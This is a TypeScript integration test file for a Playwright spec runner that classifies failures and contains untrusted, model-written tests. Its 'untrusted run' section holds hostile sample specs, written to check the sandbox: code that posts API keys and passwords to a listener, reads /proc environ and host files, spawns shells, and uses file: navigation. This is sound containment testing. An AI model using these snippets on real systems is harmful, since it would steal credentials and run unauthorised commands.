/**
 * The Runner against a real app on 127.0.0.1, with Playwright's real CLI and a real Chromium: every
 * classification from a real failure, the evidence kept, and nothing left in the temporary area.
 */
import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { RunnerReport } from '../../src/contracts.ts';
import { runSpec, startRun, type RunSpecOptions } from '../../src/agents/runner.ts';
import { isRunning, processTree } from '../../src/agents/runner/process.ts';
import { osSandboxAvailable } from '../../src/agents/runner/sandbox.ts';
import { loadRunnerConfig, type RunnerConfig } from '../../src/config/runner.ts';
import { scribe } from '../commands/cli-harness.ts';
import { serveDirectory, type StaticServer } from '../../src/demo-app/static-server.ts';
import { closedUrl } from '../fixtures/closed-url.ts';
import { bundledRunTarget } from '../fixtures/run-target.ts';

const fixtures = fileURLToPath(new URL('../fixtures/runner-app/', import.meta.url));
const repoRoot = fileURLToPath(new URL('../../', import.meta.url));
const testConfigFile = path.join(fixtures, 'runner.yaml');
const config = loadRunnerConfig(testConfigFile);

let server: StaticServer;
/** A project folder of its own per test: the Runner's temp area is <project>/.scribe/tmp. */
let project: string;

beforeAll(async () => {
  server = await serveDirectory(fixtures);
});
afterAll(() => server.close());
beforeEach(() => {
  project = mkdtempSync(path.join(tmpdir(), 'scribe-runner-'));
});
afterEach(() => rmSync(project, { recursive: true, force: true }));

const tempArea = () => path.join(project, '.scribe', 'tmp');
const artifacts = () => path.join(project, '.scribe', 'runs');

/** A spec with one test whose body starts on line 4. */
function spec(body: string, header = ''): string {
  return `import { test, expect } from '@playwright/test';\n${header}\ntest('case', async ({ page }) => {\n${body}\n});\n`;
}

async function run(text: string, options: Partial<RunSpecOptions> & { config?: RunnerConfig } = {}): Promise<RunnerReport> {
  const report = await runSpec({ specText: text, fileName: 'case.spec.ts', baseURL: server.url, cwd: project, ...bundledRunTarget(options.config ?? config), ...options });
  expect(RunnerReport.safeParse(report).success).toBe(true);
  expectNoLeftovers();
  return report;
}

function expectNoLeftovers(): void {
  const temp = tempArea();
  expect(existsSync(temp) ? readdirSync(temp) : []).toEqual([]);
}

describe('runSpec', () => {
  it('passes a spec that passes, keeping its screenshot and the browser console errors', async () => {
    const report = await run(
      spec(`  await page.goto('/');
  await expect(page.getByTestId('title')).toHaveText('Welcome');
  await page.getByTestId('greet').click();
  await expect(page.getByTestId('greeting')).toHaveText('Hello!');
  await page.screenshot({ path: 'screenshots/greeted.png' });`),
    );
    expect(report).toMatchObject({ status: 'pass', classification: 'pass', error_message: null, error_line: null });
    expect(report.segment).toMatchObject({ type: 'TEST_RESULT', outcome: 'PASS' });
    expect(report.segment!.content).toMatch(/1 passed/);
    expect(report.console_errors).toEqual(['runner-app: deliberate console error']);
    expect(report.screenshots).toHaveLength(1);
    expect(report.screenshots[0]).toMatch(/screenshots[/\\]greeted\.png$/);
    expect(report.screenshots[0]!.startsWith(artifacts())).toBe(true);
    expect(readFileSync(report.screenshots[0]!).subarray(1, 4).toString()).toBe('PNG');
  });

  it('classifies a wrong expected text on a real element as app_bug, with the line and the page snapshot', async () => {
    const report = await run(spec(`  await page.goto('/');\n  await expect(page.getByTestId('title')).toHaveText('Goodbye');`));
    expect(report).toMatchObject({ status: 'fail', classification: 'app_bug', error_line: 5 });
    expect(report.error_message).toContain('Expected: "Goodbye"');
    expect(report.error_message).toContain('Received: "Welcome"');
    expect(report.error_message).not.toContain('.scribe');
    expect(report.error_context).toContain('heading "Welcome"');
    expect(report.error_context).toContain('# Error details');
    expect(report.error_context).not.toContain('# Instructions');
    expect(report.segment).toMatchObject({ outcome: 'FAIL' });
    expect(report.screenshots.some((file) => /test-failed-\d+\.png$/.test(file) && existsSync(file))).toBe(true);
  });

  it('classifies a test id that is not on the page as test_bug', async () => {
    const report = await run(spec(`  await page.goto('/');\n  await page.getByTestId('no-such-button').click();`));
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug', error_line: 5 });
    expect(report.error_message).toContain("waiting for getByTestId('no-such-button')");
  });

  it('classifies an assertion on a test id that is not on the page as test_bug', async () => {
    const report = await run(spec(`  await page.goto('/');\n  await expect(page.getByTestId('no-such-text')).toHaveText('x');`));
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug', error_line: 5 });
  });

  it('classifies a strict-mode violation as test_bug', async () => {
    const report = await run(spec(`  await page.goto('/');\n  await page.getByTestId('item').click();`));
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug', error_line: 5 });
    expect(report.error_message).toMatch(/strict mode violation.*resolved to 2 elements/);
  });

  it('classifies a spec that does not compile as test_bug, at its line', async () => {
    const report = await run(spec(`  await page.goto('/');\n  await expect(page.getByTestId('title')).toHaveText('Welcome';`));
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug', error_line: 5 });
    expect(report.error_message).toMatch(/^SyntaxError: case\.spec\.ts/);
  });

  it('classifies a reference error as test_bug', async () => {
    const report = await run(spec(`  await page.goto('/');\n  await expect(page.getByTestId(titleId)).toBeVisible();`));
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug', error_line: 5 });
    expect(report.error_message).toMatch(/ReferenceError: titleId is not defined/);
  });

  it('classifies an unreachable app as environment', async () => {
    const report = await run(spec(`  await page.goto('/');\n  await expect(page.getByTestId('title')).toBeVisible();`), { baseURL: await closedUrl() });
    expect(report).toMatchObject({ status: 'error', classification: 'environment', error_line: 4 });
    expect(report.error_message).toContain('net::ERR_CONNECTION_REFUSED');
  });

  it('classifies a missing module as environment', async () => {
    const report = await run(spec(`  await page.goto('/');\n  expect(pad('x')).toBe('x');`, "import pad from 'no-such-package-for-scribe';"));
    expect(report).toMatchObject({ status: 'error', classification: 'environment' });
    expect(report.error_message).toContain('no-such-package-for-scribe');
  });

  it('classifies a missing browser as environment without starting Playwright', async () => {
    const report = await run(spec(`  await page.goto('/');`), { env: { ...process.env, SCRIBE_BROWSER: path.join(project, 'no-chromium') } });
    expect(report).toMatchObject({ status: 'error', classification: 'environment' });
    expect(report.error_message).toMatch(/No Chromium found at SCRIBE_BROWSER/);
    expect(existsSync(tempArea())).toBe(false);
  });

  it('does not call a skipped test a pass', async () => {
    const report = await run(`import { test } from '@playwright/test';\n\ntest.skip('case', async ({ page }) => {\n  await page.goto('/');\n});\n`);
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug', error_line: 3 });
    expect(report.error_message).toMatch(/skipped/);
    expect(report.segment!.outcome).toBe('FAIL');
  });

  it('does not call a spec without tests a pass', async () => {
    const report = await run(`import { test } from '@playwright/test';\n\ntest.describe('empty', () => {});\n`);
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug' });
    expect(report.error_message).toMatch(/no test/);
  });

  it('does not call a run a pass when a screenshot the spec took is gone', async () => {
    const report = await run(
      spec(`  await page.goto('/');\n  await page.screenshot({ path: 'shot.png' });\n  unlinkSync('shot.png');\n  await expect(page.getByTestId('title')).toBeVisible();`, "import { unlinkSync } from 'node:fs';"),
    );
    expect(report).toMatchObject({ status: 'fail', classification: 'test_bug' });
    expect(report.error_message).toMatch(/do not exist: .*shot\.png/);
  });

  // Playwright babel-transforms every file outside a node_modules folder, on every run of a contained run (its cache starts empty).
  for (const type of ['commonjs', 'module'] as const) {
    it(`has Playwright transform only the spec and its proof copy, in a ${type} project: the run's own modules and config load as JavaScript`, async () => {
      if (type === 'module') writeFileSync(path.join(project, 'package.json'), '{ "type": "module" }\n');
      const cache = path.join(project, 'transform-cache');
      const text = `import defaultTest, { test, expect } from '@playwright/test';\n\ntest('greets', async ({ page }) => {\n  expect(defaultTest).toBe(test);\n  await page.goto('/');\n  await page.getByTestId('greet').click();\n  await expect(page.getByTestId('greeting')).toHaveText('Hello!');\n});\n`;
      const report = await run(text, { proof: {}, env: { ...process.env, PLAYWRIGHT_TRANSFORM_CACHE_DIR: cache } });
      expect(report).toMatchObject({ status: 'pass', classification: 'pass', proof: { verdict: 'proved', line: 6 } });
      // Each entry is named after the file it holds, without its extension and punctuation.
      const transformed = readdirSync(cache, { recursive: true, encoding: 'utf8' }).filter((entry) => entry.endsWith('.js')).map((entry) => entry.replace(/^.*_/, '').replace(/\.js$/, ''));
      expect([...new Set(transformed)].sort()).toEqual(['casespec', 'casespectsproof']);
    });
  }

  it('runs a spec from disk whose relative imports still reach its own folder', async () => {
    const suite = path.join(project, 'e2e');
    mkdirSync(suite);
    writeFileSync(path.join(suite, 'ids.ts'), "export const TITLE = 'title';\n");
    const file = path.join(suite, 'home.spec.ts');
    writeFileSync(file, spec(`  await page.goto('/');\n  await expect(page.getByTestId(TITLE)).toHaveText('Welcome');`, "import { TITLE } from './ids';"));
    const report = await runSpec({ specPath: 'e2e/home.spec.ts', baseURL: server.url, cwd: project, ...bundledRunTarget(config) });
    expect(report).toMatchObject({ status: 'pass', classification: 'pass' });
    expect(readdirSync(suite).sort()).toEqual(['home.spec.ts', 'ids.ts']);
    expectNoLeftovers();
  });

  it("uses the project's own copy of Playwright, the one its fixtures import (Playwright refuses two copies)", async () => {
    const modules = path.join(project, 'node_modules');
    for (const name of ['playwright', 'playwright-core', '@playwright/test']) cpSync(path.join(repoRoot, 'node_modules', name), path.join(modules, name), { recursive: true });
    const suite = path.join(project, 'e2e');
    mkdirSync(suite);
    writeFileSync(
      path.join(suite, 'fixtures.ts'),
      "import { test as base } from '@playwright/test';\nexport const test = base.extend<{ title: string }>({ title: async ({}, use) => use('Welcome') });\nexport { expect } from '@playwright/test';\n",
    );
    writeFileSync(path.join(suite, 'home.spec.ts'), "import { test, expect } from './fixtures';\n\ntest('home', async ({ page, title }) => {\n  await page.goto('/');\n  await expect(page.getByTestId('title')).toHaveText(title);\n});\n");
    const report = await runSpec({ specPath: 'e2e/home.spec.ts', baseURL: server.url, cwd: project, ...bundledRunTarget(config) });
    expect(report).toMatchObject({ status: 'pass', classification: 'pass' });
    expectNoLeftovers();
  });

  it('stops a run past the whole-run limit, kills the Playwright process tree and cleans up', async () => {
    const pidFile = path.join(project, 'pids.json');
    const hanging = spec(
      `  test.setTimeout(0);\n  await page.goto('/');\n  writeFileSync(${JSON.stringify(pidFile)}, JSON.stringify({ runner: process.ppid }));\n  await new Promise(() => {});`,
      "import { writeFileSync } from 'node:fs';",
    );
    const limited: RunnerConfig = { ...config, timeouts: { ...config.timeouts, test_ms: 10_000, run_ms: 15_000 } };
    const pending = runSpec({ specText: hanging, fileName: 'hang.spec.ts', baseURL: server.url, cwd: project, ...bundledRunTarget(limited) });
    const tree = processTree((await waitForJson<{ runner: number }>(pidFile)).runner);
    expect(tree.length).toBeGreaterThanOrEqual(3); // the runner, its worker, the browser (and its helpers)

    const report = await pending;
    expect(report).toMatchObject({ status: 'timeout', classification: 'timeout', error_line: null });
    expect(report.error_message).toContain('timeouts.run_ms (15000 ms');
    expect(report.segment!.outcome).toBe('FAIL');
    expect(tree.filter(isRunning)).toEqual([]);
    expectNoLeftovers();
  }, 60_000);
});

describe('runSpec with an abort signal', () => {
  it('stops Playwright and its browser at once when aborted, and cleans up', async () => {
    const pidFile = path.join(project, 'pids.json');
    const hanging = spec(
      `  test.setTimeout(0);\n  await page.goto('/');\n  writeFileSync(${JSON.stringify(pidFile)}, JSON.stringify({ runner: process.ppid }));\n  await new Promise(() => {});`,
      "import { writeFileSync } from 'node:fs';",
    );
    const controller = new AbortController();
    const pending = runSpec({ specText: hanging, fileName: 'hang.spec.ts', baseURL: server.url, cwd: project, ...bundledRunTarget(config), signal: controller.signal });
    const tree = processTree((await waitForJson<{ runner: number }>(pidFile)).runner);
    expect(tree.length).toBeGreaterThanOrEqual(3);

    controller.abort(new Error('the server is shutting down'));
    await expect(pending).rejects.toThrow('the server is shutting down');
    expect(tree.filter(isRunning)).toEqual([]);
    expectNoLeftovers();
  }, 60_000);
});

describe('scribe run', () => {
  beforeEach(() => {
    mkdirSync(path.join(project, 'agents'));
    writeFileSync(path.join(project, 'agents', 'runner.yaml'), readFileSync(testConfigFile));
    writeFileSync(path.join(project, 'home.spec.ts'), spec(`  await page.goto('/');\n  await expect(page.getByTestId('title')).toHaveText('Welcome');`));
    writeFileSync(path.join(project, 'wrong.spec.ts'), spec(`  await page.goto('/');\n  await expect(page.getByTestId('title')).toHaveText('Goodbye');`));
  });

  it('prints the runner report with --json and exits 0 on a pass', async () => {
    const result = await scribe(['run', 'home.spec.ts', '--url', server.url, '--json'], { cwd: project });
    expect(result.code).toBe(0);
    const report = RunnerReport.parse(JSON.parse(result.stdout));
    expect(report).toMatchObject({ status: 'pass', classification: 'pass' });
    expect(result.stderr).toBe('');
    expectNoLeftovers();
  });

  it('takes the URL from BASE_URL, and shows a failure with its class, line and screenshot; exit 1', async () => {
    const result = await scribe(['run', 'wrong.spec.ts'], { cwd: project, env: { BASE_URL: server.url } });
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/^FAIL {2}wrong\.spec\.ts:5 {2}app_bug/);
    expect(result.stdout).toContain('Expected: "Goodbye"');
    expect(result.stdout).toMatch(/Screenshots\n {2}\.scribe[/\\]runs[/\\].*test-failed-1\.png/);
    expect(result.stderr).toMatch(/wrong\.spec\.ts: fail \(app_bug\)/);
  });

  it('exits 2 without a URL, naming --url and BASE_URL', async () => {
    const result = await scribe(['run', 'home.spec.ts'], { cwd: project, env: { BASE_URL: '' } });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/--url.*BASE_URL/);
  });

  it('exits 2 for a spec that does not exist', async () => {
    const result = await scribe(['run', 'nope.spec.ts', '--url', server.url], { cwd: project });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('no such spec file: nope.spec.ts');
  });

  it('on Ctrl-C kills the run and removes its temporary folder', async () => {
    const pidFile = path.join(project, 'pids.json');
    writeFileSync(
      path.join(project, 'hang.spec.ts'),
      spec(
        `  test.setTimeout(0);\n  await page.goto('/');\n  writeFileSync(${JSON.stringify(pidFile)}, JSON.stringify({ runner: process.ppid }));\n  await new Promise(() => {});`,
        "import { writeFileSync } from 'node:fs';",
      ),
    );
    const cli = spawn(process.execPath, [path.join(repoRoot, 'bin', 'scribe.js'), 'run', 'hang.spec.ts', '--url', server.url], { cwd: project, stdio: 'ignore' });
    const exited = new Promise<NodeJS.Signals | number | null>((resolve) => cli.once('exit', (code, signal) => resolve(signal ?? code)));
    const tree = processTree((await waitForJson<{ runner: number }>(pidFile)).runner);
    expect(readdirSync(tempArea())).toHaveLength(1);

    cli.kill('SIGINT');
    // Stopped as every command is: the run ended and torn down, then exit 130 (as a shell reports a SIGINT).
    expect(await exited).toBe(130);
    expect(tree.filter(isRunning)).toEqual([]);
    expectNoLeftovers();
  }, 60_000);
});

async function waitForJson<T>(file: string): Promise<T> {
  for (let waited = 0; waited < 45_000; waited += 100) {
    if (existsSync(file)) {
      try {
        return JSON.parse(readFileSync(file, 'utf8')) as T;
      } catch {
        // written but not yet complete
      }
    }
    await sleep(100);
  }
  throw new Error(`${file} never appeared`);
}

describe('an untrusted run (model-written code)', () => {
  /** A listener on 127.0.0.1 that records what each request carried. */
  async function listener() {
    const { createServer } = await import('node:http');
    const seen: string[] = [];
    const server = createServer((req, res) => {
      let body = '';
      req.on('data', (chunk) => (body += chunk));
      req.on('end', () => {
        seen.push(`${req.url} ${body}`);
        res.end('ok');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as import('node:net').AddressInfo;
    return { url: `http://127.0.0.1:${port}`, seen, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
  }

  /** The Runner's config with `origins` reachable besides the app's. */
  const reaching = (...origins: string[]): RunnerConfig => ({ ...config, containment: { ...config.containment, allowed_origins: origins } });

  // What the gate refuses before any run; here run directly, to show what the containment alone does.
  const exfiltrate = (sink: string) =>
    spec(`  const loot = JSON.stringify({ key: process.env.OPENAI_API_KEY ?? null, token: process.env.SCRIBE_API_TOKEN ?? null, password: process.env.E2E_PASSWORD ?? null, home: process.env.HOME });
  await page.request.post(${JSON.stringify(sink)}, { data: loot });
  await page.goto('/');
  await expect(page.getByTestId('title')).toHaveText('Welcome');`);

  it('hands Playwright no secret of the caller: only the declared variables, BASE_URL, and a HOME in the run folder', async () => {
    const sink = await listener();
    try {
      const env = { ...process.env, OPENAI_API_KEY: 'sk-secret-model-key', SCRIBE_API_TOKEN: 'server-token', E2E_PASSWORD: 'declared-password' };
      const report = await run(exfiltrate(sink.url), { env, untrusted: true, allowedEnv: ['BASE_URL', 'E2E_USERNAME', 'E2E_PASSWORD'], config: reaching(sink.url) });
      expect(report.error_message).toBeNull();
      expect(report.status).toBe('pass');
      expect(sink.seen).toHaveLength(1);
      const loot = JSON.parse(sink.seen[0]!.slice(sink.seen[0]!.indexOf(' ') + 1)) as Record<string, string | null>;
      expect(loot).toMatchObject({ key: null, token: null, password: 'declared-password' });
      expect(loot.home).toContain(path.join('.scribe', 'tmp', 'run-'));
      expect(sink.seen.join('\n')).not.toContain('sk-secret-model-key');
    } finally {
      await sink.close();
    }
  });

  it.each(['file:///etc/hostname', 'data:text/html,<h1>x</h1>', 'view-source:http://127.0.0.1/'])(
    'stops page.goto(%s) in the browser context, before the page loads',
    async (target) => {
      const report = await run(spec(`  await page.goto(${JSON.stringify(target)});
  await expect(page.locator('body')).toContainText('x');`), { untrusted: true });
      expect(report.status).toBe('fail');
      expect(report.error_message).toContain('Scribe blocked a navigation outside http(s)');
    },
  );

  it('does not let a page reach file: by other means, nor let a request leave http(s)', async () => {
    const report = await run(
      spec(`  await page.goto('/');
  const fetched = await page.evaluate(() => fetch('file:///etc/hostname').then((r) => r.text()).catch((e) => 'refused: ' + String(e)));
  expect(fetched).toContain('refused');
  await page.evaluate(() => { location.href = 'file:///etc/hostname'; }).catch(() => undefined);
  await page.waitForTimeout(300);
  expect(page.isClosed() || !page.url().startsWith('file:')).toBe(true);`),
      { untrusted: true },
    );
    expect(report.error_message).toBeNull();
    expect(report.status).toBe('pass');
  });

  it('blames an unreachable app on the environment even after the page showed Chromium’s error page', async () => {
    // The first navigation's error page is committed before the second starts: the race a loaded machine lost,
    // where closing that page turned the second navigation's net::ERR_ into "page closed", a test bug.
    const report = await run(spec(`  await page.goto('/').catch(() => undefined);\n  await page.goto('/');`), { baseURL: await closedUrl(), untrusted: true });
    expect(report).toMatchObject({ status: 'error', classification: 'environment', error_line: 5 });
    // Named as the spec calls it, though the Runner's fixtures wrap page.goto.
    expect(report.error_message).toMatch(/page\.goto: net::ERR_\w+ at http:\/\/127\.0\.0\.1:\d+\//);
    expect(report.console_errors.join('\n')).not.toContain('Scribe blocked a navigation');
  });

  it('keeps a page whose iframe could not load open: the app embeds what the sandbox does not reach', async () => {
    const report = await run(
      spec(`  await page.goto('/');
  const framed = page.waitForEvent('framenavigated', (frame) => frame !== page.mainFrame());
  await page.evaluate((src) => document.body.append(Object.assign(document.createElement('iframe'), { src })), ${JSON.stringify(await closedUrl())});
  await framed;
  await expect(page.getByTestId('title')).toHaveText('Welcome');`),
      { untrusted: true },
    );
    expect(report.error_message).toBeNull();
    expect(report.status).toBe('pass');
  });

  it('redacts the declared credentials from the evidence a model will see: error message, console lines, snapshot', async () => {
    const env = { ...process.env, E2E_PASSWORD: 'hunter2-declared' };
    const report = await run(
      spec(`  await page.goto('/');
  const password = process.env.E2E_PASSWORD ?? '';
  await page.evaluate((p) => { console.error('login with ' + p); document.body.append(p); }, password);
  await expect(page.getByTestId('title')).toHaveText(password);`),
      { env, untrusted: true, allowedEnv: ['BASE_URL', 'E2E_PASSWORD'] },
    );
    expect(report.status).toBe('fail');
    const evidence = JSON.stringify(report);
    expect(evidence).toContain('[redacted E2E_PASSWORD]');
    expect(evidence).not.toContain('hunter2-declared');
  });

  it('runs the test under Node’s permission model: no process started, nothing written or read outside the run and the project', async () => {
    const outside = mkdtempSync(path.join(tmpdir(), 'scribe-outside-'));
    const sink = await listener();
    try {
      writeFileSync(path.join(outside, 'secret.txt'), 'host-file-secret-7f3a');
      const marker = path.join(outside, 'marker');
      // Each attempt records what happened; the gate would refuse all of it, so this shows the containment alone.
      const report = await run(
        spec(`  const tried: Record<string, string> = {};
  const attempt = (name: string, act: () => unknown) => { try { act(); tried[name] = 'done'; } catch (error) { tried[name] = String((error as { code?: string }).code ?? error); } };
  const cp = (process as any).getBuiltinModule('node:child_process');
  const fs = (process as any).getBuiltinModule('node:fs');
  attempt('spawn', () => cp.execSync(${JSON.stringify(`touch ${marker}-spawn`)}));
  attempt('spawnAsync', () => cp.spawn('/bin/sh', ['-c', ${JSON.stringify(`touch ${marker}-async`)}]));
  attempt('write', () => fs.writeFileSync(${JSON.stringify(`${marker}-write`)}, 'x'));
  attempt('read', () => { tried.readText = fs.readFileSync(${JSON.stringify(path.join(outside, 'secret.txt'))}, 'utf8'); });
  attempt('environ', () => { tried.environText = fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8'); });
  attempt('home', () => fs.readdirSync(${JSON.stringify(tmpdir())}));
  await page.request.post(${JSON.stringify(sink.url)}, { data: JSON.stringify(tried) });
  await page.goto('/');
  await expect(page.getByTestId('title')).toHaveText('Welcome');`),
        { env: { ...process.env, OPENAI_API_KEY: 'sk-in-the-parent-environ' }, untrusted: true, config: reaching(sink.url) },
      );
      expect(report.error_message).toBeNull();
      const tried = JSON.parse(sink.seen[0]!.slice(sink.seen[0]!.indexOf(' ') + 1)) as Record<string, string>;
      expect(tried).toEqual({ spawn: 'ERR_ACCESS_DENIED', spawnAsync: 'ERR_ACCESS_DENIED', write: 'ERR_ACCESS_DENIED', read: 'ERR_ACCESS_DENIED', environ: 'ERR_ACCESS_DENIED', home: 'ERR_ACCESS_DENIED' });
      // spawn throws before any process exists (spawnAsync above is ERR_ACCESS_DENIED, not 'done'), so nothing can
      // write here later: what the folder holds once the run is over is final.
      expect(readdirSync(outside)).toEqual(['secret.txt']);
    } finally {
      await sink.close();
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it('the test connects to Scribe’s browser: a browser executable of the spec’s choosing never starts', async () => {
    const outside = mkdtempSync(path.join(tmpdir(), 'scribe-outside-'));
    try {
      const marker = path.join(outside, 'shell-ran');
      const shell = { executablePath: '/bin/sh', ignoreDefaultArgs: true, args: ['-c', `touch ${marker}`] };
      const viaUse = await run(spec(`  await page.goto('/');
  await expect(page.getByTestId('title')).toHaveText('Welcome');`, `test.use({ launchOptions: ${JSON.stringify(shell)} });`), { untrusted: true });
      expect(viaUse.status).toBe('pass');
      const viaLaunch = await run(`import { test } from '@playwright/test';\ntest('case', async ({ playwright }) => {\n  await playwright.chromium.launch(${JSON.stringify(shell)});\n});\n`, { untrusted: true });
      expect(viaLaunch.status).not.toBe('pass');
      // The permission model hides /bin from the test process: to Playwright the executable is not there.
      expect(viaLaunch.error_message).toMatch(/executable doesn't exist at \/bin\/sh|ERR_ACCESS_DENIED/);
      expect(existsSync(marker)).toBe(false);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it.skipIf(!osSandboxAvailable(process.env))(
    'code that runs while Playwright loads the file may start a process, but inside the OS sandbox: the host is untouched',
    async () => {
      const outside = mkdtempSync(path.join(tmpdir(), 'scribe-outside-'));
      try {
        const marker = path.join(outside, 'loaded');
        // Load-time code runs in Playwright's runner process, which may start its workers: the shell it starts
        // runs, but in the sandbox's own /tmp. (The same line in the worker is refused by the permission model.)
        const header = `try { (process as any).getBuiltinModule('node:child_process').execSync(${JSON.stringify(`mkdir -p ${outside} && touch ${marker}`)}); } catch {}`;
        const report = await run(spec(`  await page.goto('/');
  await expect(page.getByTestId('title')).toHaveText('Welcome');`, header), { untrusted: true });
        expect(report.error_message).toBeNull();
        expect(report.status).toBe('pass');
        expect(existsSync(marker)).toBe(false);
      } finally {
        rmSync(outside, { recursive: true, force: true });
      }
    },
  );

  it.skipIf(!osSandboxAvailable(process.env))(
    'in the OS sandbox the run reaches only the app and the allowed origins: not the test, the browser, page.request nor the request fixture',
    async () => {
      const allowed = await listener();
      const canary = await listener();
      try {
        const attempts = [
          `fetch(${JSON.stringify(`${canary.url}/test-fetch`)})`,
          `page.request.get(${JSON.stringify(`${canary.url}/page-request`)})`,
          `request.get(${JSON.stringify(`${canary.url}/request-fixture`)})`,
          `page.evaluate(() => fetch(${JSON.stringify(`${canary.url}/page-fetch`)}, { mode: 'no-cors' }))`,
          // Last: a refused navigation ends on Chromium's error page, which the Runner's fixtures close.
          `page.goto(${JSON.stringify(`${canary.url}/page-goto`)})`,
          `page.goto(${JSON.stringify(`//${new URL(canary.url).host}/protocol-relative`)})`,
        ];
        const report = await run(
          `import { test, expect } from '@playwright/test';
test('case', async ({ page, request }) => {
  await page.goto('/');
  const outcomes: string[] = [];
  for (const attempt of [${attempts.map((a) => `() => ${a}`).join(', ')}]) outcomes.push(await attempt().then(() => 'reached', (error) => 'refused: ' + String(error.cause?.code ?? error.message).split('\\n')[0]));
  await request.post(${JSON.stringify(`${allowed.url}/allowed`)}, { data: outcomes.join('\\n') });
  const fresh = await page.context().newPage();
  await fresh.goto('/');
  await expect(fresh.getByTestId('title')).toHaveText('Welcome');
});
`,
          { untrusted: true, config: reaching(allowed.url) },
        );
        expect(report.error_message).toBeNull();
        expect(canary.seen).toEqual([]);
        expect(allowed.seen).toHaveLength(1);
        expect(allowed.seen[0]).not.toContain('reached');
        expect(allowed.seen[0]!.match(/refused/g)).toHaveLength(attempts.length);
      } finally {
        await allowed.close();
        await canary.close();
      }
    },
  );

  it('without an OS sandbox (off, or no bubblewrap) a contained run still runs, under the permission model', async () => {
    const off = { ...config, containment: { ...config.containment, os_sandbox: 'off' as const } };
    const report = await run(spec(`  const denied = await Promise.resolve().then(() => (process as any).getBuiltinModule('node:child_process').execSync('true')).then(() => 'ran', (e) => e.code);
  expect(denied).toBe('ERR_ACCESS_DENIED');
  await page.goto('/');
  await expect(page.getByTestId('title')).toHaveText('Welcome');`), { untrusted: true, config: off });
    expect(report.error_message).toBeNull();
    expect(report.status).toBe('pass');
  });

  it('with the OS sandbox required where there is none, refuses to run and names the fix', async () => {
    const required = { ...config, containment: { ...config.containment, os_sandbox: 'required' as const } };
    const report = await run(spec(`  await page.goto('/');`), { untrusted: true, config: required, env: { ...process.env, PATH: '/nonexistent' } });
    expect(report).toMatchObject({ status: 'error', classification: 'environment' });
    expect(report.error_message).toContain('apt-get install bubblewrap');
  });

  it('a trusted run (the user’s own spec) keeps the caller’s environment', async () => {
    const sink = await listener();
    try {
      const report = await run(exfiltrate(sink.url), { env: { ...process.env, OPENAI_API_KEY: 'sk-users-own' } });
      expect(report.status).toBe('pass');
      expect(sink.seen[0]).toContain('sk-users-own');
    } finally {
      await sink.close();
    }
  });
});

describe('a run started before its spec (startRun)', () => {
  /** This process's contained browsers: Chromium with its profile in a run's TMPDIR (scribe-tmp-<this pid>-…). */
  const containedBrowsers = () => processTree(process.pid).filter((pid) => {
    try {
      const command = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      return command.includes('--user-data-dir') && command.includes(`scribe-tmp-${process.pid}-`);
    } catch {
      return false;
    }
  });
  async function browserLaunched(): Promise<number[]> {
    for (let tries = 0; tries < 600; tries++) {
      const found = containedBrowsers();
      if (found.length > 0) return found;
      await sleep(100);
    }
    throw new Error('the started run launched no browser');
  }
  const start = () => startRun({ fileName: 'case.spec.ts', sourceDir: project, baseURL: server.url, cwd: project, untrusted: true, ...bundledRunTarget(config) });

  it('launches its browser inside the boundary before the spec exists, then runs the spec it is given', async () => {
    const started = start();
    expect(started.untrusted).toBe(true);
    const browsers = await browserLaunched();
    const [folder] = readdirSync(tempArea());
    expect(readdirSync(path.join(tempArea(), folder!))).not.toContain('spec');

    const report = await started.run({ text: spec(`  await page.goto('/');\n  await page.getByTestId('greet').click();\n  await expect(page.getByTestId('greeting')).toHaveText('Hello!');`), proof: {} });
    expect(report).toMatchObject({ status: 'pass', classification: 'pass', error_message: null });
    expect(report.containment?.os_sandbox).toBe(osSandboxAvailable(process.env));
    expect(report.proof?.verdict).toBe('proved');
    expect(() => started.run({ text: spec(`  await page.goto('/');`) })).toThrow('a started run runs one spec');
    expect(browsers.filter(isRunning)).toEqual([]);
    expectNoLeftovers();
  }, 120_000);

  it('discarded unused, leaves no process and no folder', async () => {
    const started = start();
    const browsers = await browserLaunched();
    await started.discard();
    expect(browsers.filter(isRunning)).toEqual([]);
    expect(containedBrowsers()).toEqual([]);
    expectNoLeftovers();
  }, 120_000);

  it('is not run when the spec reads a declared credential that is unset, and stops its Playwright', async () => {
    const started = start();
    const browsers = await browserLaunched();
    const report = await started.run({ text: spec(`  await page.goto('/');\n  await page.getByTestId('name').fill(process.env.SCRIBE_TEST_UNSET_PASSWORD ?? '');`), credentials: ['SCRIBE_TEST_UNSET_PASSWORD'] });
    expect(report).toMatchObject({ status: 'error', classification: 'environment' });
    expect(report.error_message).toContain('SCRIBE_TEST_UNSET_PASSWORD is not set');
    expect(browsers.filter(isRunning)).toEqual([]);
    expectNoLeftovers();
  }, 120_000);
});
